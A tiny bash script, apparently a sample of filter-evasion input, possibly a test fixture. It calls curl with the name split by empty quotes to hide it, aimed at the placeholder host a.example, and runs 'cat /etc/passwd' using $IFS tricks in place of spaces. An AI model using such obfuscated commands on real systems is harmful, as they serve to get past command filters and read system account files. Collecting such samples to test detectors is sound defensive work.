#!/bin/bash
set -eu
c""u""rl http://a.example
$(echo$IFS-n) cat${IFS}/etc/passwd
